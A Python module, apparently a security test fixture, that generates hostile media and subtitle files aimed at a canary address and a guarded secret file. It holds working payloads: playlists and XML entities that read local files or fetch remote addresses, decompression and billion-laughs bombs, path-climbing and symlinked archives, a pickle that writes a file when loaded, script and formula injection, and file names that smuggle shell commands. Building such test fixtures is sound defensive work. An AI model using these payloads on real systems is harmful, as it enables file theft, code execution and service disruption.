"""Files that mean harm, made here: playlists that point elsewhere, scripts with entities, bombs, names that climb, pickles that act.

Enter: a folder for what must not be read, the address of a canary. Leave: `Bait`s. If one of them works, the canary is called, the secret
turns up in the studio's files, or a file with the mark in its name appears. A new trick: one more entry in `baits`.
"""

from __future__ import annotations

import io
import math
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

MEDIA, SCRIPT = "media", "script"
BOMB_BYTES = 200 * 2**20


@dataclass(frozen=True, slots=True)
class Bait:
    """`name` as the sender calls it; `why`: what it tries."""

    name: str
    purpose: str
    data: bytes
    why: str


@dataclass(frozen=True, slots=True)
class Trap:
    """What no bait may reach. `mark`: a word in the name of every file that a bait would make; `secret`: a file, with a word that is in no other."""

    canary: str
    secret: Path
    mark: str
    outside: Path


class Acts:
    """Unpickled carelessly, it writes a file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self.path, "w")


def baits(trap: Trap, bomb_bytes: int = BOMB_BYTES) -> Iterator[Bait]:
    """`bomb_bytes`: what the bombs unpack to."""
    yield from _playlists(trap)
    yield from _markup(trap)
    yield from _bombs(bomb_bytes)
    yield from _archives(trap, bomb_bytes)
    yield from _pickles(trap)
    yield from _names(trap)


def _playlists(trap: Trap) -> Iterator[Bait]:
    away, here = f"{trap.canary}/segment.ts", trap.secret.as_uri()
    hls = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{0}\n#EXT-X-ENDLIST\n"
    for name in ("live.m3u8", "film.mp4", "film.ts"):
        yield Bait(name, MEDIA, hls.format(away).encode(), "a playlist that fetches")
        yield Bait(name, MEDIA, hls.format(here).encode(), "a playlist that reads a file")
    concat = f"ffconcat version 1.0\nfile '{trap.secret}'\nfile '{away}'\n"
    yield Bait("list.txt", MEDIA, concat.encode(), "a concat script")
    yield Bait("list.mp4", MEDIA, concat.encode(), "a concat script named as a film")
    sdp = f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {trap.canary.rsplit(':', 1)[-1]} RTP/AVP 96\n"
    yield Bait("stream.sdp", MEDIA, sdp.encode(), "a session description that listens")
    mpd = f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><BaseURL>{trap.canary}/</BaseURL><Period/></MPD>'
    yield Bait("film.mpd", MEDIA, mpd.encode(), "a DASH manifest")
    yield Bait("film.asx", MEDIA, f'<asx version="3.0"><entry><ref href="{away}"/></entry></asx>'.encode(), "a Windows playlist")
    for name, address in (("url.mov", away), ("file.mov", here)):
        yield Bait(name, MEDIA, _film_elsewhere(_box(b"url ", b"\0" * 4, address.encode() + b"\0")), "a film whose samples lie at an address")
    yield Bait("alias.mov", MEDIA, _film_elsewhere(_alias(trap.secret)), "a film whose samples lie in another file")


def _box(name: bytes, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return struct.pack(">I", 8 + len(content)) + name + content


def _alias(path: Path) -> bytes:
    """A data reference as old Macs wrote it: volume, file name, and the path from the root (type 2)."""
    name, whole = path.name.encode()[:63], str(path).encode()
    fixed = b"\0" * 10 + b"\0" + b"\0" * 27 + b"\0" * 12 + bytes([len(name)]) + name.ljust(63, b"\0") + b"\0" * 16 + struct.pack(">hh", 1, 1) + b"\0" * 16
    record = struct.pack(">hh", 2, len(whole)) + whole + b"\0" * (len(whole) % 2) + struct.pack(">hh", -1, 0)
    return _box(b"alis", b"\0" * 4, fixed, record)


def _film_elsewhere(place: bytes) -> bytes:
    """A QuickTime film of one second of raw sound whose data reference points at another place (ISO 14496-12, dref)."""
    full = b"\0\0\0\0"
    reference = _box(b"dref", full, struct.pack(">I", 1), place)
    entry = _box(b"sowt", b"\0" * 6 + struct.pack(">HHHIHHHHI", 1, 0, 0, 0, 1, 16, 0, 0, 8000 << 16))
    tables = (
        _box(b"stsd", full, struct.pack(">I", 1), entry),
        _box(b"stts", full, struct.pack(">III", 1, 8000, 1)),
        _box(b"stsc", full, struct.pack(">IIII", 1, 1, 8000, 1)),
        _box(b"stsz", full, struct.pack(">II", 2, 8000)),
        _box(b"stco", full, struct.pack(">II", 1, 0)),
    )
    info = _box(b"minf", _box(b"smhd", full, b"\0" * 4), _box(b"dinf", reference), _box(b"stbl", *tables))
    head = _box(b"mdhd", full, struct.pack(">IIIIHH", 0, 0, 8000, 8000, 0, 0))
    kind = _box(b"hdlr", full, b"mhlrsoun" + b"\0" * 13)
    matrix = struct.pack(">9I", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    track = _box(b"tkhd", b"\0\0\0\1", struct.pack(">IIIII", 0, 0, 1, 0, 1000), b"\0" * 16, matrix, b"\0" * 8)
    movie = _box(b"mvhd", full, struct.pack(">IIIIIH", 0, 0, 1000, 1000, 1 << 16, 1 << 8), b"\0" * 10, matrix, b"\0" * 24, struct.pack(">I", 2))
    return _box(b"ftyp", b"qt  ", b"\0\0\2\0", b"qt  ") + _box(b"moov", movie, _box(b"trak", track, _box(b"mdia", head, kind, info)))


def _markup(trap: Trap) -> Iterator[Bait]:
    entity = '<!DOCTYPE tt [<!ENTITY x SYSTEM "{0}">]><tt xmlns="http://www.w3.org/ns/ttml" xml:lang="en"><body><div><p begin="1s" end="3s">&x;</p></div></body></tt>'
    yield Bait("read.ttml", SCRIPT, entity.format(trap.secret.as_uri()).encode(), "an entity that reads a file")
    yield Bait("fetch.ttml", SCRIPT, entity.format(f"{trap.canary}/entity").encode(), "an entity that fetches")
    doctype = f'<!DOCTYPE tt SYSTEM "{trap.canary}/tt.dtd"><tt xmlns="http://www.w3.org/ns/ttml"><body/></tt>'
    yield Bait("dtd.ttml", SCRIPT, doctype.encode(), "a document type that fetches")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE tt [<!ENTITY l0 "ha">{laughs}]><tt xmlns="http://www.w3.org/ns/ttml"><body><div><p begin="1s" end="3s">&l9;</p></div></body></tt>'
    yield Bait("laughs.ttml", SCRIPT, bomb.encode(), "a billion laughs")
    yield Bait("deep.ttml", SCRIPT, b"<tt xmlns='http://www.w3.org/ns/ttml'>" + b"<div>" * 200_000, "elements nested without end")
    html = f'<script>fetch("{trap.canary}/script")</script><img src="{trap.canary}/image" onerror="alert(1)">'
    yield Bait("html.srt", SCRIPT, f"1\n00:00:01,000 --> 00:00:03,000\n{html}\n".encode(), "markup that runs in a page")
    yield Bait("formula.csv", SCRIPT, f'start,end,source\n00:00:01.000,00:00:03.000,"=HYPERLINK(""{trap.canary}/cell"")"\n'.encode(), "a formula for the next program")
    style = f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ../../{trap.mark}.ttf\n!!!!\n[Events]\nFormat: Start, End, Text\nDialogue: 0:00:01.00,0:00:03.00,hello\n"
    yield Bait("fonts.ass", SCRIPT, style.encode(), "a font with a name that climbs")


def _bombs(bomb_bytes: int) -> Iterator[Bait]:
    picture = _huge_picture(math.isqrt(8 * bomb_bytes))
    yield Bait("huge.png", MEDIA, picture, "a picture beyond any screen")
    yield Bait("huge.mp4", MEDIA, picture, "the same, named as a film")
    wave = b"RIFF\xff\xff\xff\xff" + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 1, 2, 2, 16) + b"data" + struct.pack("<I", 4_000_000) + b"\0" * 4_000_000
    yield Bait("weeks.wav", MEDIA, wave, "three weeks of sound in four megabytes")
    yield Bait("gigabytes.wav", MEDIA, b"RIFF\xff\xff\xff\xffWAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 64, 768_000, 98_304_000, 128, 16) + b"data\xff\xff\xff\xff", "a header that promises 4 GB")
    yield Bait("long.srt", SCRIPT, b"1\n00:00:01,000 --> 00:00:03,000\n" + b"a" * (12 * 2**20), "one cue of 12 million letters")
    yield Bait("many.srt", SCRIPT, b"".join(b"%d\n00:00:01,000 --> 00:00:03,000\nx\n\n" % n for n in range(300_000)), "300,000 cues")
    yield Bait("times.srt", SCRIPT, b"1\n99999999999:00:01,000 --> 99999999999999999999:00:03,000\nx\n", "times beyond any clock")
    yield Bait("marks.vtt", SCRIPT, b"WEBVTT\n\n00:01.000 --> 00:03.000\n" + "a\u0301\u202e\u2066".encode() * 200_000, "marks upon marks")


def _huge_picture(side_px: int) -> bytes:
    """A PNG of one bit a pixel, all the same: a few hundred kilobytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    packer, row = zlib.compressobj(1), b"\0" * (1 + side_px // 8)
    packed = b"".join(packer.compress(row) for _ in range(side_px)) + packer.flush()
    head = struct.pack(">IIBBBBB", side_px, side_px, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def _archives(trap: Trap, bomb_bytes: int) -> Iterator[Bait]:
    sheet = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "{0}">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&y;</t></is></c></row></sheetData></worksheet>'
    yield Bait("entity.xlsx", SCRIPT, _zip({"xl/worksheets/sheet1.xml": sheet.format(trap.secret.as_uri()).encode(), **_BOOK}), "a workbook with an entity")
    yield Bait("bomb.xlsx", SCRIPT, _zip({"xl/worksheets/sheet1.xml": b"<" + b" " * bomb_bytes, **_BOOK}), "a workbook that unpacks without end")
    climbing = {f"../../../{trap.mark}-zip.txt": b"x", f"{trap.outside}/{trap.mark}-absolute.txt": b"x", f"..\\..\\{trap.mark}-back.txt": b"x", **_BOOK}
    for name, purpose in (("climbing.xlsx", SCRIPT), ("climbing.zip", SCRIPT), ("climbing.mp4", MEDIA)):
        yield Bait(name, purpose, _zip(climbing), "an archive whose members climb")
    yield Bait("link.zip", SCRIPT, _linking(trap), "an archive with a link out of it")
    yield Bait("bomb.zip", SCRIPT, _zip({"project.json": b"0" * bomb_bytes}), "a project that unpacks without end")


_BOOK = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "xl/workbook.xml": b'<?xml version="1.0"?><workbook><sheets><sheet name="a" sheetId="1"/></sheets></workbook>',
}


def _zip(members: dict[str, bytes]) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return whole.getvalue()


def _linking(trap: Trap) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        link = zipfile.ZipInfo("out")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(trap.outside))
        archive.writestr(f"out/{trap.mark}-link.txt", "x")
    return whole.getvalue()


def _pickles(trap: Trap) -> Iterator[Bait]:
    acts = pickle.dumps(Acts(str(trap.outside / f"{trap.mark}-pickle")), protocol=4)
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + acts
    for name in ("voice.pt", "voice.ckpt", "film.mp4", "sound.wav"):
        yield Bait(name, MEDIA, acts, "a pickle that acts")
    yield Bait("lines.srt", SCRIPT, acts, "a pickle that acts, named as lines")
    yield Bait("faces.npy", MEDIA, array, "an array of objects")
    yield Bait("faces.npz", SCRIPT, _zip({"mouths.npy": array}), "an archive of arrays of objects")
    yield Bait("model.zip", SCRIPT, _zip({"archive/data.pkl": acts, "archive/version": b"3"}), "weights as torch saves them, with an act")


def _names(trap: Trap) -> Iterator[Bait]:
    lines = b"1\n00:00:01,000 --> 00:00:03,000\nhello\n"
    for name in (
        f"../../../{trap.mark}-up.srt",
        f"{trap.outside}/{trap.mark}-absolute.srt",
        f"..\\..\\{trap.mark}-back.srt",
        f"%2e%2e%2f%2e%2e%2f{trap.mark}-coded.srt",
        f"{trap.mark}\0.srt",
        f"file:{trap.outside}/{trap.mark}-url.srt",
        f"-i {trap.secret} {trap.mark}.srt",
        f"$(touch {trap.outside}/{trap.mark}-shell).srt",
        f"`touch {trap.outside}/{trap.mark}-tick`;.srt",
        f"{'n' * 4000}.srt",
        "\u202etrs.exe",
        "..",
        "",
        "nul.srt",
        "<img src=x onerror=alert(1)>.srt",
    ):
        yield Bait(name, SCRIPT, lines, "a name that is no name")
    yield Bait(f"../../../{trap.mark}-film.mp4", MEDIA, lines, "a film's name that climbs")
